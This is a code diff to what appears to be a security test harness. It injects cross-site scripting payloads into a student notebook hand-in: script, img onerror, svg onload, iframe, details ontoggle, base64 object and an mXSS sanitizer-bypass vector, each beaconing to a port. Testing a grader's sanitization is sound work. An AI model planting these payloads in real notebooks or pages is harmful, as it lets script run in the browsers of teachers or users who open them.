@@ -50,19 +50,36 @@ def call(vector, port):
     return "eval(atob('%s'))" % base64.b64encode(script(vector, port).encode()).decode()
 
 
+def html_payload(vector, kind, port):
+    """One classic way into a page that renders HTML, reporting as ``vector``."""
+    run = call(vector, port)
+    if kind == "script":
+        return f"<script>{script(vector, port)}</script>"
+    if kind == "img":
+        return f'<img src="x" onerror="{run}">'
+    if kind == "svg":
+        return f'<svg onload="{run}"></svg>'
+    if kind == "iframe":
+        return f'<iframe srcdoc="<script>{run}</script>"></iframe>'
+    if kind == "details":
+        return f'<details open ontoggle="{run}"><summary>.</summary></details>'
+    if kind == "object":
+        inner = base64.b64encode(f"<script>{script(vector, port)}</script>".encode()).decode()
+        return f'<object data="data:text/html;base64,{inner}"></object>'
+    if kind == "mxss":  # a parser differential: the sanitizer's parse against the browser's
+        return f'<math><mtext><table><mglyph><style><img src="x" onerror="{run}">'
+    raise ValueError(kind)
+
+
+# "mxss" is not among them: in a browser that parses it as the attacker hopes,
+# its unclosed <style> swallows the rest of the page, every later vector with
+# it. It is planted once, in the hand-in's last cell (hostile_notebook).
+HTML_KINDS = ("script", "img", "svg", "iframe", "details", "object")
+
+
 def html_vectors(channel, port):
-    """{vector: HTML} — the classic ways into a page that renders HTML."""
-    v = lambda kind: f"{channel}-{kind}"  # noqa: E731
-    inner = base64.b64encode(f"<script>{script(v('object'), port)}</script>".encode()).decode()
-    return {
-        v("script"): f"<script>{script(v('script'), port)}</script>",
-        v("img"): f'<img src="x" onerror="{call(v("img"), port)}">',
-        v("svg"): f'<svg onload="{call(v("svg"), port)}"></svg>',
-        v("iframe"): f'<iframe srcdoc="<script>{call(v("iframe"), port)}</script>"></iframe>',
-        v("details"): f'<details open ontoggle="{call(v("details"), port)}"><summary>.</summary></details>',
-        v("object"): f'<object data="data:text/html;base64,{inner}"></object>',
-        v("mxss"): f'<math><mtext><table><mglyph><style><img src="x" onerror="{call(v("mxss"), port)}">',
-    }
+    """{vector: HTML}, one per kind of :func:`html_payload`."""
+    return {f"{channel}-{kind}": html_payload(f"{channel}-{kind}", kind, port) for kind in HTML_KINDS}
 
 
 def markdown_of(vectors):
@@ -117,11 +134,11 @@ def code_cells(port):
     )
     cells.append((["js-function"], f"from IPython.display import display_javascript\ndisplay_javascript({js['js-function']!r}, raw=True)\n"))
     reprs = {
-        "repr-html": f"_repr_html_ = lambda self: {html_vectors('repr', port)['repr-img'].replace('repr-img', 'repr-html')!r}",
-        "repr-markdown": f"_repr_markdown_ = lambda self: {html_vectors('repr', port)['repr-svg'].replace('repr-svg', 'repr-markdown')!r}",
+        "repr-html": f"_repr_html_ = lambda self: {html_payload('repr-html', 'img', port)!r}",
+        "repr-markdown": f"_repr_markdown_ = lambda self: {html_payload('repr-markdown', 'svg', port)!r}",
         "repr-javascript": f"_repr_javascript_ = lambda self: {script('repr-javascript', port)!r}",
         "repr-mimebundle": "_repr_mimebundle_ = lambda self, **kw: {'text/html': "
-        + repr(html_vectors("repr", port)["repr-details"].replace("repr-details", "repr-mimebundle"))
+        + repr(html_payload("repr-mimebundle", "details", port))
         + ", 'application/javascript': "
         + repr(script("repr-mimebundle", port))
         + "}",
@@ -129,12 +146,11 @@ def code_cells(port):
     }
     for vector, method in reprs.items():
         cells.append(([vector], f"class Riche:\n    {method}\nRiche()\n"))
-    code = html_vectors("code", port)
-    cells.append((["code-html"], "%%html\n" + code["code-img"].replace("code-img", "code-html") + "\n"))
+    cells.append((["code-html"], "%%html\n" + html_payload("code-html", "img", port) + "\n"))
     cells.append((["code-javascript"], "%%javascript\n" + script("code-javascript", port) + "\n"))
-    cells.append((["code-markdown"], "%%markdown\n" + code["code-svg"].replace("code-svg", "code-markdown") + "\n"))
+    cells.append((["code-markdown"], "%%markdown\n" + html_payload("code-markdown", "svg", port) + "\n"))
     cells.append((["code-js"], "%%js\n" + script("code-js", port) + "\n"))
-    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}, "text/html": code["code-iframe"].replace("code-iframe", "code-widget")}
+    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}, "text/html": html_payload("code-widget", "iframe", port)}
     cells.append((["code-widget"], f"display({widget!r}, raw=True)\n"))
     return cells
 
@@ -176,7 +192,7 @@ def hostile_notebook(nb, answer_grade_id, port, student, assignment):
             ra = html_vectors("ra", port)
             vectors.update(dict.fromkeys(ra))
             cell.source = (
-                "Le perceptron ne sépare pas XOR.\n\n" + markdown_of(ra) + "\n" + spoof() + "\n"
+                "Le perceptron ne sépare pas XOR.\n\n" + spoof() + "\n" + markdown_of(ra) + "\n"
                 + "\n\n".join(markdown for _, markdown in links.values()) + "\n"
             )
             vectors.update(dict.fromkeys(links))
@@ -192,6 +208,8 @@ def hostile_notebook(nb, answer_grade_id, port, student, assignment):
         vectors.update(dict.fromkeys(names))
         added.append(nbformat.v4.new_code_cell(source))
     nb.cells[index + 1 : index + 1] = added
+    nb.cells.append(nbformat.v4.new_markdown_cell("Fin.\n\n" + html_payload("md-mxss", "mxss", port) + "\n"))
+    vectors["md-mxss"] = None
     return nb, list(vectors)
 
 
